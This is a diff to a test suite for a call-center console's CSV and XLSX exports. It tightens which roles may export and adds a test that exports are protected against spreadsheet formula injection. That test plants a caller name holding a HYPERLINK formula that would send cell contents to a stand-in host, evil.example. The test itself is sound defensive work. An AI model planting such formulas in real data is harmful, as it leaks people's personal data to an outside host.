@@ -47,15 +47,14 @@ describe('exports: every console list to CSV (UTF-8 BOM, ;) and XLSX, with its f
     expect(ws.getRow(2).getCell(1).value).toBe('2021-000002');
   });
 
-  it('when the audit log and the calls are exported, then admins get all, an agent their own calls, and the export is audited', async () => {
+  it('when the audit log and the calls are exported, then admins and supervisors get all, and the export is audited', async () => {
     const audit = await csv('/api/exports/audit.csv?entity=request');
     expect(audit[0]).toBe('№;Час;Користувач;Дія;Об’єкт;Ідентифікатор;IP;Подробиці');
     expect(audit.slice(1).every((l) => l.split(';')[4] === 'request')).toBe(true);
     expect(audit.length).toBeGreaterThan(1);
     expect(await csv('/api/exports/calls.csv')).toHaveLength(3);
-    const mine = await csv('/api/exports/calls.csv', agent.cookie);
-    expect(mine).toHaveLength(2);
-    expect(mine[1]).toContain('c-1');
+    const supervisor = await t.login({ role: 'supervisor' });
+    expect(await csv('/api/exports/calls.csv', supervisor.cookie)).toHaveLength(3);
     const [{ n }] = await sql.query(`SELECT count(*)::int AS n FROM audit_log WHERE action = 'export' AND entity = 'request' AND user_id = $1`, [admin.user.id]);
     expect(n).toBeGreaterThan(0);
   });
@@ -74,6 +73,35 @@ describe('exports: every console list to CSV (UTF-8 BOM, ;) and XLSX, with its f
     const executor = await t.login({ role: 'executor', executor: 'WATER' });
     const lines = await csv('/api/exports/requests.csv', executor.cookie);
     expect(lines.slice(1).map((l) => l.split(';')[0]).sort()).toEqual(['2021-000007', '2021-000008']);
+  });
+
+  it('when an agent asks for a whole list of personal data, then 403, and their list reads stay paged', async () => {
+    for (const path of ['/api/exports/requests.csv', '/api/exports/requests.xlsx', '/api/exports/calls.csv', '/api/exports/calls.xlsx']) {
+      const res = await t.fetch(path, { cookie: agent.cookie });
+      expect(res.status, path).toBe(403);
+      expect((await body(res)).error.code, path).toBe('forbidden');
+    }
+    const executor = await t.login({ role: 'executor', executor: 'WATER' });
+    expect((await t.fetch('/api/exports/calls.csv', { cookie: executor.cookie })).status).toBe(403);
+    const whole = await t.fetch('/api/requests?pageSize=30000', { cookie: agent.cookie });
+    expect(whole.status).toBe(400);
+    expect((await body(whole)).error.fields).toHaveProperty('pageSize');
+  });
+
+  it('when a caller named themselves with a formula, then the CSV cell is text and the XLSX cell is a string, never a formula', async () => {
+    const evil = '=HYPERLINK("http://evil.example/?"&A1,"Натисніть")';
+    await sql.query(`INSERT INTO calls (id, caller_number, caller_name, queue, queued_at, outcome) VALUES ('c-evil', '+380671110000', $1, 'support', now() + interval '1 hour', 'abandoned')`, [evil]);
+    const lines = await csv('/api/exports/calls.csv');
+    const row = lines.find((l) => l.startsWith('c-evil'))!;
+    expect(row).toContain(`"'${evil.replace(/"/g, '""')}"`);
+    expect(row.split(';')[3]).toBe("'+380671110000");
+    const res = await t.fetch('/api/exports/calls.xlsx', { cookie: admin.cookie });
+    const wb = new ExcelJS.Workbook();
+    await wb.xlsx.load(await res.arrayBuffer());
+    const cell = wb.worksheets[0].getRow(2).getCell(5);
+    expect(cell.value).toBe(evil);
+    expect(cell.type).toBe(ExcelJS.ValueType.String);
+    await sql.query(`DELETE FROM calls WHERE id = 'c-evil'`);
   });
 
   it('when an agent exports the audit log, or the format is not csv or xlsx, then 403 and 400', async () => {
